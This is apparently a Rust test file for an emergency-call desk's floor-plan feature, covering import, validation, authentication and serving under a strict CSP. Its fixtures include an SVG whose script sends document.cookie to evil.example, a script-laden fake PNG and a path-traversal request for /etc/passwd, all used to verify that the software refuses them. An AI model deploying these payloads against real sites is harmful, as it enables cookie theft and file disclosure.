//! Floor plans on the alert (issue 16 item 4): an ERL's plan and point set from the command line
//! and from the CSV's FloorPlan columns, in both stores; hostile images refused before they are
//! stored; the point carried on the call's events; the image served to authenticated desks only,
//! with its media type, a Content-Security-Policy that lets it run and load nothing, and nosniff.

use crate::support;

use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use sha2::Digest;
use sosdesk::api::client::{ApiClient, ClientError};
use sosdesk::api::{encode_base64, FLOOR_PLAN_CSP};
use sosdesk::location::floorplan::{FloorPlanImage, MediaType};
use sosdesk::location::store::{LisStore, NewPin};
use support::lab::Lab;
use support::store::{store_test, TestDb};

/// A floor plan as an editor exports it: walls, a room label, Inkscape's bookkeeping.
pub const PLAN_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="800" height="400" viewBox="0 0 800 400">
  <rect x="0" y="0" width="800" height="400" fill="#f4f4f0" stroke="#222" stroke-width="8"/>
  <g inkscape:label="walls" stroke="#222" stroke-width="4">
    <line x1="400" y1="0" x2="400" y2="400"/><line x1="0" y1="200" x2="800" y2="200"/>
  </g>
  <text x="40" y="60" font-size="28">301</text><text x="440" y="60" font-size="28">302</text>
</svg>
"##;

/// The same plan with a script and an outside image: what must never reach a desk.
const HOSTILE_SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('https://evil.example/?'+document.cookie)</script><image href="https://evil.example/track.png"/></svg>"#;

const HEADER: &str = "Subnet,Description,Location,CompanyName,HouseNumber,HouseNumberSuffix,PreDirectional,StreetName,\
StreetSuffix,PostDirectional,City,State,PostalCode,Country,Floor,Room";

fn sosdesk(args: &[&str], store: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sosdesk")).args(args).args(["--store", store]).output().expect("run sosdesk")
}

fn text(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

fn sha256(b: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(b))
}

fn write(dir: &Path, name: &str, content: &str) -> String {
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p.to_str().unwrap().to_string()
}

store_test!(a_floor_plan_is_set_shown_refused_and_cleared_from_the_command_line);
async fn a_floor_plan_is_set_shown_refused_and_cleared_from_the_command_line(db: TestDb) {
    let store = db.store_arg();
    let dir = tempfile::tempdir().unwrap();
    let csv = write(
        dir.path(),
        "s.csv",
        &format!("{HEADER}\n10.1.0.0/24,East,East wing,Litware,1234,,,163rd,Ave,NE,Redmond,WA,98052,US,3,301\n"),
    );
    let out = sosdesk(&["lis", "import", &csv, "--kind", "subnets"], &store);
    assert!(out.status.success(), "{}", text(&out));
    let plan = write(dir.path(), "plan.svg", PLAN_SVG);

    let out =
        sosdesk(&["lis", "floorplan", "set", "--erl", "1", "--image", &plan, "--x", "0.25", "--y", "0.75"], &store);
    assert!(out.status.success(), "{}", text(&out));
    let id = sha256(PLAN_SVG.as_bytes());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        format!(
            "ERL 1: floor plan {id} (image/svg+xml, {} bytes, 800×400), pin at x 0.2500, y 0.7500 (pixel 200, 300)",
            PLAN_SVG.len()
        )
    );
    let lis = LisStore::open(db.location()).await.unwrap();
    let (erls, _) = lis.load_wiremap().await.unwrap();
    let pin = erls[0].floor_plan.clone().expect("the ERL carries its pin");
    assert_eq!((pin.plan.as_str(), pin.x, pin.y), (id.as_str(), 0.25, 0.75));

    // `show` writes the stored image back, byte for byte.
    let back = dir.path().join("back.svg");
    let out = sosdesk(&["lis", "floorplan", "show", "--erl", "1", "-o", back.to_str().unwrap()], &store);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("pin at x 0.2500, y 0.7500"), "{}", text(&out));
    assert_eq!(std::fs::read(&back).unwrap(), PLAN_SVG.as_bytes());

    // A hostile SVG, a file that only claims to be a PNG, a point off the plan, an unknown ERL:
    // refused, saying why, and the store keeps the plan it had.
    let hostile = write(dir.path(), "hostile.svg", HOSTILE_SVG);
    let fake_png = dir.path().join("fake.png");
    std::fs::write(&fake_png, b"\x89PNG\r\n\x1a\n<script>alert(1)</script>").unwrap();
    let fake_png = fake_png.to_str().unwrap().to_string();
    for (image, x, erl, why) in [
        (hostile.as_str(), "0.5", "1", "hostile.svg: SVG refused: line 1: a <script> element"),
        (fake_png.as_str(), "0.5", "1", "fake.png: not a valid PNG"),
        (plan.as_str(), "1.5", "1", "x = 1.5: a point on the plan is given as a fraction"),
        (plan.as_str(), "0.5", "99", "no ERL with id 99"),
    ] {
        let out = sosdesk(&["lis", "floorplan", "set", "--erl", erl, "--image", image, "--x", x, "--y", "0.5"], &store);
        assert!(!out.status.success(), "{image}: {}", text(&out));
        assert!(text(&out).contains(why), "{why} not in {}", text(&out));
    }
    assert_eq!(db.count("floor_plans").await, 1);
    let (erls, _) = lis.load_wiremap().await.unwrap();
    assert_eq!(erls[0].floor_plan.as_ref().map(|p| p.x), Some(0.25));

    let out = sosdesk(&["lis", "floorplan", "clear", "--erl", "1"], &store);
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ERL 1: floor plan cleared");
    // The image goes with its last pin.
    assert_eq!((db.count("erl_floor_plans").await, db.count("floor_plans").await), (0, 0));
    let out = sosdesk(&["lis", "floorplan", "show", "--erl", "1"], &store);
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ERL 1: no floor plan");
    lis.close().await;
}

store_test!(the_csv_floor_plan_columns_pin_each_room_on_one_stored_plan);
async fn the_csv_floor_plan_columns_pin_each_room_on_one_stored_plan(db: TestDb) {
    let store = db.store_arg();
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("plans")).unwrap();
    write(&dir.path().join("plans"), "floor3.svg", PLAN_SVG);
    write(dir.path(), "hostile.svg", HOSTILE_SVG);
    // Two rooms of one floor share the plan, each with its own point; a third room has none.
    let csv = write(
        dir.path(),
        "s.csv",
        &format!(
            "{HEADER},FloorPlan,FloorPlanX,FloorPlanY\n\
10.1.1.0/24,301,East wing,Litware,1234,,,163rd,Ave,NE,Redmond,WA,98052,US,3,301,plans/floor3.svg,0.25,0.25\n\
10.1.2.0/24,302,East wing,Litware,1234,,,163rd,Ave,NE,Redmond,WA,98052,US,3,302,plans/floor3.svg,0.75,0.25\n\
10.1.3.0/24,303,East wing,Litware,1234,,,163rd,Ave,NE,Redmond,WA,98052,US,3,303,,,\n"
        ),
    );
    let out = sosdesk(&["lis", "import", &csv, "--kind", "subnets"], &store);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!((db.count("floor_plans").await, db.count("erl_floor_plans").await), (1, 2));
    let lis = LisStore::open(db.location()).await.unwrap();
    let (erls, _) = lis.load_wiremap().await.unwrap();
    let pins: Vec<Option<(f64, f64)>> = erls.iter().map(|e| e.floor_plan.as_ref().map(|p| (p.x, p.y))).collect();
    assert_eq!(pins, vec![Some((0.25, 0.25)), Some((0.75, 0.25)), None]);
    let (media_type, bytes) = lis.floor_plan_image(&sha256(PLAN_SVG.as_bytes())).await.unwrap().unwrap();
    assert_eq!((media_type, bytes.as_slice()), (MediaType::Svg, PLAN_SVG.as_bytes()));
    lis.close().await;

    // A hostile plan, a missing file or half a point refuse the whole file, at its cell.
    let bad = write(
        dir.path(),
        "bad.csv",
        &format!(
            "{HEADER},FloorPlan,FloorPlanX,FloorPlanY\n\
10.2.1.0/24,a,West,Litware,1,,,Main,St,,Redmond,WA,98052,US,1,101,hostile.svg,0.5,0.5\n\
10.2.2.0/24,b,West,Litware,1,,,Main,St,,Redmond,WA,98052,US,1,102,nowhere.png,0.5,0.5\n\
10.2.3.0/24,c,West,Litware,1,,,Main,St,,Redmond,WA,98052,US,1,103,plans/floor3.svg,,0.5\n"
        ),
    );
    let out = sosdesk(&["lis", "import", &bad, "--kind", "subnets"], &store);
    assert!(!out.status.success());
    let msg = text(&out);
    assert!(msg.contains("bad.csv:4:18 (FloorPlanX): \"\" is not a number"), "{msg}");
    // Image files are read once every cell is good: a file whose cells are good is refused for
    // its images.
    let only_files = write(
        dir.path(),
        "bad2.csv",
        &std::fs::read_to_string(&bad).unwrap().lines().take(3).collect::<Vec<_>>().join("\n"),
    );
    let out = sosdesk(&["lis", "import", &only_files, "--kind", "subnets"], &store);
    assert!(!out.status.success());
    let msg = text(&out);
    assert!(
        msg.contains("bad2.csv:2:17 (FloorPlan): ")
            && msg.contains("hostile.svg: SVG refused: line 1: a <script> element"),
        "{msg}"
    );
    assert!(msg.contains("bad2.csv:3:17 (FloorPlan): ") && msg.contains("nowhere.png: cannot read the image"), "{msg}");
    assert!(msg.contains("nothing was imported"), "{msg}");
    assert_eq!((db.count("erls").await, db.count("floor_plans").await), (3, 1));
}

/// The call's events carry the pin; the image is served to desks with credentials only, as
/// what it is, under a CSP that lets it neither run nor load anything; an image that fails the
/// check (a store written by something else) is not served at all.
#[test]
fn a_call_carries_its_pin_and_desks_fetch_the_plan_under_a_strict_csp() {
    let mut lab = Lab::start();
    let csv = lab.dir.path().join("subnets.csv");
    std::fs::write(lab.dir.path().join("floor3.svg"), PLAN_SVG).unwrap();
    // 127.0.0.2 is in no configured site: only the imported wiremap knows where it is.
    std::fs::write(
        &csv,
        format!("{HEADER},FloorPlan,FloorPlanX,FloorPlanY\n127.0.0.2/32,Lab desk,East wing,Litware,1234,,,163rd,Ave,NE,Redmond,WA,98052,US,3,301,floor3.svg,0.25,0.75\n"),
    )
    .unwrap();
    let before = lab.core.as_ref().unwrap().wiremap().load().len();
    let out = lab.cli_store(&["lis", "import", csv.to_str().unwrap(), "--kind", "subnets"]);
    assert!(out.status.success(), "{}", text(&out));
    let deadline = Instant::now() + Duration::from_secs(20);
    while lab.core.as_ref().unwrap().wiremap().load().len() == before {
        assert!(Instant::now() < deadline, "the running core did not load the import");
        std::thread::sleep(Duration::from_millis(20));
    }
    let id = sha256(PLAN_SVG.as_bytes());

    let provider = lab.uas("provider", "provider_answer.xml", "127.0.0.1", lab.ports.primary, &[]);
    lab.uac("caller", "caller_hangs_up.xml", "127.0.0.2", &["-s", "911", "-set", "hold_ms", "50"]).wait().assert_ok();
    provider.wait().assert_ok();

    let api = lab.ports.api;
    let plan_path = format!("/api/v1/floor-plans/{id}");
    lab.rt.block_on(async {
        // Without credentials, or with wrong ones: nothing.
        let (status, _, body) = get(api, &plan_path, None).await;
        assert_eq!(status, 401);
        assert!(!body.contains("<svg"));
        let (status, _, _) = get(api, &plan_path, Some(("desk1", "wrong"))).await;
        assert_eq!(status, 401);

        let (status, head, body) = get(api, &plan_path, Some(("desk1", "lobby-desk-secret"))).await;
        assert_eq!(status, 200, "{head}");
        let head = head.to_ascii_lowercase();
        assert!(head.contains("\r\ncontent-type: image/svg+xml\r\n"), "{head}");
        assert!(
            head.contains(&format!("\r\ncontent-security-policy: {}\r\n", FLOOR_PLAN_CSP.to_ascii_lowercase())),
            "{head}"
        );
        assert!(FLOOR_PLAN_CSP.contains("default-src 'none'") && FLOOR_PLAN_CSP.contains("sandbox"));
        assert!(head.contains("\r\nx-content-type-options: nosniff\r\n"), "{head}");
        assert_eq!(body, PLAN_SVG);

        // The remote desk's client, with its credentials.
        let client = ApiClient::new(&format!("http://127.0.0.1:{api}"), "desk2", "control-room-secret", None).unwrap();
        let (media_type, bytes) = client.floor_plan(&id).await.unwrap();
        assert_eq!((media_type.as_str(), &bytes[..]), ("image/svg+xml", PLAN_SVG.as_bytes()));
        let stranger = ApiClient::new(&format!("http://127.0.0.1:{api}"), "desk2", "guess", None).unwrap();
        assert!(matches!(stranger.floor_plan(&id).await, Err(ClientError::Unauthorized(_))));
        let (status, _, _) =
            get(api, "/api/v1/floor-plans/..%2F..%2Fetc%2Fpasswd", Some(("desk1", "lobby-desk-secret"))).await;
        assert_eq!(status, 404);

        // A hostile SVG written past the check (another tool, a hand edit): not served.
        let lis = LisStore::open(lab.store_location()).await.unwrap();
        let image = FloorPlanImage {
            media_type: MediaType::Svg,
            bytes: HOSTILE_SVG.as_bytes().to_vec(),
            sha256: sha256(HOSTILE_SVG.as_bytes()),
            size: None,
        };
        lis.set_floor_plan(1, NewPin { image: &image, x: 0.5, y: 0.5 }).await.unwrap();
        lis.close().await;
        let (status, head, body) =
            get(api, &format!("/api/v1/floor-plans/{}", image.sha256), Some(("desk1", "lobby-desk-secret"))).await;
        assert_eq!(status, 422, "{head}");
        assert!(body.contains("SVG refused: line 1: a <script> element"), "{body}");
        assert!(!body.contains("evil.example") && !body.contains("fetch("), "{body}");
        assert!(!head.to_ascii_lowercase().contains("image/svg+xml"), "{head}");
    });

    lab.stop();
    let ev = &lab.audit_events()[0];
    let pin = ev.location.erl.as_ref().and_then(|e| e.floor_plan.clone()).expect("the call's ERL carries its pin");
    assert_eq!((pin.plan.as_str(), pin.x, pin.y), (id.as_str(), 0.25, 0.75));
    lab.assert_audit_verifies();
}

/// One GET over plain HTTP/1.1: (status, head, body).
async fn get(port: u16, path: &str, auth: Option<(&str, &str)>) -> (u16, String, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let mut r = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n");
    if let Some((u, p)) = auth {
        r.push_str(&format!("Authorization: Basic {}\r\n", encode_base64(format!("{u}:{p}").as_bytes())));
    }
    r.push_str("\r\n");
    s.write_all(r.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw).await;
    let text = String::from_utf8_lossy(&raw).to_string();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    (head.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0), head.to_string(), body.to_string())
}
